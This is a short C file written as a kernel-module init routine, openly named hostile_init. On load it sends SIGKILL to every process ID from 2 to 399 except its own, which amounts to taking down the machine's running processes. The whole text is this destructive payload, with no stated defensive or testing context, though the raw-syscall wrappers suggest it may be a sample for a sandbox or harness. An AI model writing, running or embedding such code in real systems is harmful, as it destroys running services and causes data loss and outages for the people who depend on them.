// SPDX-License-Identifier: GPL-2.0
#include "raw.h"

/* All but itself: those that hold the processes of the machine. */
static int __init hostile_init(void)
{
	long self = raw0(SYS_GETPID), pid;

	for (pid = 2; pid < 400; pid++)
		if (pid != self)
			raw2(SYS_KILL, pid, 9);
	return 0;
}

module_init(hostile_init);
